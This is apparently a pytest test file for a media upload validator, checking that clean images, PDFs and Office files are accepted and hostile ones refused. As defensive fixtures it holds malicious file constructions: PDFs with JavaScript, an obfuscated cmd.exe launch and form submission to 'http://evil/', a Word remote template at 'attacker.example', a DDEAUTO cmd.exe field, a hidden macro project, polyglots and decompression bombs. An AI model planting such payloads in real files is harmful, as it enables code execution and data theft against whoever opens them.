"""Files are judged by their bytes: clean ones accepted with their facts, hostile ones refused
with the file's name and a reason a person can act on."""

from __future__ import annotations

import io
import zipfile

import pytest
from PIL import Image

from media.checks import inspect
from media.errors import MediaRefused
from media.models import MediaKind
from tests.media import files


def refusal(data: bytes, name: str) -> MediaRefused:
    with pytest.raises(MediaRefused) as caught:
        inspect(data, name)
    assert name in caught.value.message
    return caught.value


def test_clean_files_are_accepted_with_their_facts() -> None:
    photo = inspect(files.jpeg_with_gps(1600, 1000), "minister.JPG")
    assert (photo.kind, photo.type.mime, photo.width, photo.height) == (MediaKind.IMAGE, "image/jpeg", 1600, 1000)
    assert inspect(files.png(), "map.png").type.extension == "png"
    assert inspect(files.webp(), "chart.webp").type.extension == "webp"
    report = inspect(files.pdf(3), "jaarverslag-2026.pdf")
    assert (report.kind, report.pages) == (MediaKind.DOCUMENT, 3)
    assert inspect(files.office("docx"), "speech.docx").type.label == "Word"
    assert inspect(files.office("xlsx"), "figures.xlsx").type.label == "Excel"
    assert inspect(files.office("pptx"), "slides.pptx").type.label == "PowerPoint"


def test_a_png_renamed_pdf_is_refused_for_what_its_bytes_are() -> None:
    refused = refusal(files.png(), "report.pdf")
    assert refused.problem == "name_mismatch"
    assert "PNG" in refused.message and ".pdf" in refused.message


def test_svg_with_a_script_is_refused_whatever_it_is_called() -> None:
    assert refusal(files.SVG_WITH_SCRIPT, "logo.svg").problem == "svg"
    assert refusal(files.SVG_WITH_SCRIPT, "logo.png").problem == "svg"


def test_a_decompression_bomb_is_refused_by_its_size_before_it_is_decoded() -> None:
    bomb = files.png_bomb()
    assert len(bomb) < 2_000_000  # small on disk …
    refused = refusal(bomb, "bomb.png")
    assert refused.problem == "bomb"
    assert "20000 × 20000" in refused.message and "400 megapixels" in refused.message


def test_a_pdf_with_javascript_is_refused_even_with_an_escaped_key() -> None:
    refused = refusal(files.pdf_with_javascript(), "invitation.pdf")
    assert refused.problem == "pdf_script" and "JavaScript" in refused.message


def test_an_encrypted_pdf_is_refused() -> None:
    assert refusal(files.encrypted_pdf(), "secret.pdf").problem == "encrypted"


def test_polyglots_are_refused() -> None:
    assert refusal(files.jpeg_zip_polyglot(), "photo.jpg").problem == "polyglot"
    with_pdf_header = files.png()[:33] + b"%PDF-1.7" + files.png()[33:]
    assert refusal(with_pdf_header, "chart.png").problem == "polyglot"
    png_then_html = files.png() + b"<html><script>alert(1)</script></html>"
    assert refusal(png_then_html, "chart.png").problem == "polyglot"


def test_office_documents_with_macros_are_refused() -> None:
    assert refusal(files.office("docx", macros=True), "speech.docx").problem == "macros"


def test_unknown_empty_and_oversized_files_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    assert refusal(b"", "empty.jpg").problem == "empty"
    assert refusal(b"GIF89a" + b"\x00" * 100, "anim.gif").problem == "unknown_type"
    assert refusal(b"MZ\x90\x00" + b"\x00" * 100, "setup.pdf").problem == "unknown_type"
    monkeypatch.setenv("PRESSROOM_MEDIA_MAX_BYTES", "2048")
    from core.settings import get_settings

    get_settings.cache_clear()
    refused = refusal(files.jpeg_with_gps(400, 300), "big.jpg")
    assert refused.problem == "too_big" and "2 KB" in refused.message


def test_a_truncated_image_is_refused() -> None:
    photo = files.png(300, 200)
    assert refusal(photo[: len(photo) // 2], "cut.png").problem == "unreadable"


# --- what an attacker tried (each was accepted, or crashed, before) ---------------------------


def _pdf_with(catalog: bytes = b"", page: bytes = b"") -> bytes:
    return files._pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
                       b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                       b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page + b" >>"])


@pytest.mark.parametrize(("catalog", "page", "problem"), [
    # pypdf keeps the first of two /Names keys, PDFium the last: the bytes hold the script either way
    (b"/Names << >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>",
     b"", "pdf_script"),
    (b"/OpenAction << /S /URI /URI (javascript:alert(1)) >>", b"", "pdf_link"),
    (b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>", b"", "pdf_script"),
    (b"", b"/AA << /O << /S /SubmitForm /F << /FS /URL /F (http://evil/) >> >> >>", "pdf_script"),
    (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://x/y) >> >>]",
     "pdf_link"),
    (b"/OpenAction << /S /L#61unch /F (cmd.exe) >>", b"", "pdf_script"),
])
def test_active_pdfs_are_refused_however_they_are_written(catalog: bytes, page: bytes, problem: str) -> None:
    assert refusal(_pdf_with(catalog, page), "invitation.pdf").problem == problem


def test_a_pdf_that_inflates_to_gigabytes_is_refused_before_it_is_parsed() -> None:
    import zlib

    squeezed = zlib.compress(b"0 0 m 1 1 l S\n" * 16_000_000, 9)  # 224 MB of drawing in ~0.5 MB
    bomb = files._pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                       b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                       b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(squeezed) + squeezed + b"\nendstream"])
    assert refusal(bomb, "report.pdf").problem == "zip_bomb"


def test_a_pdf_that_no_parser_can_read_is_refused_as_unreadable_not_a_crash() -> None:
    broken = files.pdf(1).replace(b"startxref\n", b"startxref\n100000000000000000000")
    assert refusal(broken, "broken.pdf").problem in ("unreadable", "no_pages")
    public_key = files.pdf(1).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Adobe.PubSec >>")
    assert refusal(public_key, "sealed.pdf").problem == "encrypted"


def _docx(types_extra: str = "", parts: dict[str, str | bytes] | None = None) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             f'content-types"><Override PartName="/word/document.xml" ContentType="{main}"/>{types_extra}</Types>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        for name, data in {"word/document.xml": "<w:document/>", **(parts or {})}.items():
            archive.writestr(name, data)
    return out.getvalue()


_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'


@pytest.mark.parametrize(("document", "problem"), [
    # a macro project named by a character reference and stored under an innocent name
    (_docx('<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
           {"word/x.xml": "<x/>"}), "macros"),
    (_docx('<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.ACTIVEX+xml"/>',
           {"word/a.xml": "<x/>"}), "macros"),
    (_docx(parts={"word/_rels/document.xml.rels": _RELS.format(
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>')}), "office_external"),
    (_docx(parts={"word/document.xml": '<w:document><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>'
                                       '</w:document>'}), "office_external"),
])
def test_office_documents_that_reach_outside_themselves_are_refused(document: bytes, problem: str) -> None:
    assert refusal(document, "speech.docx").problem == problem


def test_a_docx_with_hyperlinks_and_an_uncompressed_first_part_is_accepted() -> None:
    source = zipfile.ZipFile(io.BytesIO(_docx(parts={"word/_rels/document.xml.rels": _RELS.format(
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'hyperlink" Target="https://diplomatie.belgium.be" TargetMode="External"/>')})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:  # "<?xml" right after the header
        for name in source.namelist():
            archive.writestr(name, source.read(name))
    assert inspect(out.getvalue(), "speech.docx").type.label == "Word"


def test_a_zip_hidden_behind_a_comment_trick_is_still_found() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("payload.html", "<script>alert(1)</script>")
        zf.comment = b"PK\x05\x06"  # `zipfile.is_zipfile` stops at this and says "no"
    assert refusal(files.jpeg_with_gps(200, 100) + archive.getvalue(), "photo.jpg").problem == "polyglot"
    assert refusal(files.webp() + archive.getvalue(), "chart.webp").problem == "polyglot"
    assert refusal(files.pdf(1) + archive.getvalue(), "report.pdf").problem == "polyglot"


def test_images_built_to_exhaust_a_decoder_are_refused() -> None:
    plain = io.BytesIO()
    Image.new("L", (400, 300), 128).save(plain, "JPEG", progressive=True)
    data = plain.getvalue()
    scan, end = data.rfind(b"\xff\xda"), len(data) - 2
    many_scans = data[:end] + data[scan:end] * 200 + data[end:]
    assert refusal(many_scans, "photo.jpg").problem == "jpeg_scans"
    chunk = b"\x00\x00\x00\x05tEXta\x00b12\xa8\x1f\x03\x8e"
    image = files.png(10, 10)
    chatty = image[:33] + chunk * 2000 + image[33:]
    assert refusal(chatty, "chart.png").problem == "png_chunks"


def test_picture_data_inside_a_pdf_that_happens_to_spell_an_active_name_is_not_mistaken_for_it() -> None:
    """Compressed pictures are random bytes, where "/JS " turns up by chance in one PDF in a few
    dozen: only objects are searched, not the data of streams (a real report has megabytes)."""
    noise = bytes(range(256)) * 64 + b" /JS /AA /Launch " + bytes(range(255, -1, -1)) * 64
    pdf = files._pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                      b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                      b"<< /Length %d /Subtype /Image >>\nstream\n" % len(noise) + noise + b"\nendstream"])
    assert inspect(pdf, "report.pdf").pages == 1
    out = io.BytesIO()
    Image.frombytes("RGB", (300, 200), bytes(range(256)) * 703 + bytes(32)).save(out, "PDF")
    assert inspect(out.getvalue(), "scan.pdf").pages == 1


def test_a_script_inside_an_object_stream_is_found() -> None:
    import zlib

    objects = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(objects)
    pdf = files._pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                      b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                      b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                      b"<< /Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
                      + packed + b"\nendstream"])
    assert refusal(pdf, "invitation.pdf").problem == "pdf_script"


def test_objects_between_streams_are_all_searched() -> None:
    content = b"BT /F1 12 Tf (x) Tj ET"
    pdf = files._pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
                      b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                      b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                      b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
                      b"<< /S /JavaScript /JS (app.alert(1)) >>",
                      b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"])
    assert refusal(pdf, "invitation.pdf").problem == "pdf_script"
